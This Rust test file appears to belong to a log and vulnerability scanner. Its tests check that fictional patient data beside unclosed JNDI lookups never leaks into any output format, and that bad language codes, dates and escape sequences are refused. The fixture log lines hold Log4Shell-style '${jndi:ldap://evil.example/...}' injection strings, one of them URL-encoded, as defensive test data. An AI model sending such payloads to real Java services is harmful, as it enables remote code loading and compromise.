//! Hostile log lines as a user's scan meets them (issue 11): patient text around an
//! unclosed lookup reaches no output format.

use std::process::Command;

const PATIENT: &str = "Patient: Erika Mustermann, Diagnose F32.1, Versichertennummer A123456789";
const SECRETS: &[&str] = &[
    "Erika",
    "Mustermann",
    "F32.1",
    "Versichertennummer",
    "A123456789",
];

#[test]
fn patient_text_after_an_unclosed_lookup_reaches_no_output_format() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::write(
        logs.join("app.log"),
        format!(
            "2021-12-11 10:00:00,000 INFO {PATIENT} ${{jndi:ldap://evil.example/a {PATIENT}\n\
             2021-12-11 10:00:01,000 INFO q=%24%7Bjndi:ldap://evil.example/b {PATIENT}\n\
             2021-12-11 10:00:02,000 ERROR Error looking up JNDI resource [ldap://evil.example/c {PATIENT}\n\
             \tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)\n"
        ),
    )
    .unwrap();
    let p = logs.to_str().unwrap();
    for format in ["text", "json", "csv", "overview", "html", "sbom", "sarif"] {
        for cmd in ["logs", "scan"] {
            let mut c = Command::new(env!("CARGO_BIN_EXE_praxcheck"));
            c.env_remove("LANG").env("NO_COLOR", "1");
            c.args([cmd, "--path", p, "--format", format, "--all"]);
            if cmd == "scan" {
                c.arg("--no-processes");
            }
            let o = c.output().unwrap();
            let all = format!(
                "{}{}",
                String::from_utf8_lossy(&o.stdout),
                String::from_utf8_lossy(&o.stderr)
            );
            assert!(!o.stdout.is_empty(), "{cmd} {format}: {all}");
            for s in SECRETS {
                assert!(!all.contains(s), "{cmd} {format} leaked {s}: {all}");
            }
        }
    }
}

#[test]
fn an_unsupported_language_or_a_garbage_date_is_refused() {
    let run = |lang: Option<&str>, today: Option<&str>| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_praxcheck"));
        c.env_remove("LANG").env_remove("PRAXCHECK_TODAY");
        if let Some(l) = lang {
            c.args(["--lang", l]);
        }
        if let Some(t) = today {
            c.env("PRAXCHECK_TODAY", t);
        }
        c.args(["advisories", "show"]).output().unwrap()
    };
    let o = run(Some("xx"), None);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("xx"));
    for bad in ["garbage", "1900-01-01", "2024-13-01", "\u{1b}[2J"] {
        let o = run(None, Some(bad));
        assert_eq!(o.status.code(), Some(2), "{bad}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("PRAXCHECK_TODAY") && !err.contains('\u{1b}'),
            "{err}"
        );
    }
    // Good values still work.
    assert_eq!(run(Some("en"), Some("2026-01-15")).status.code(), Some(0));
}
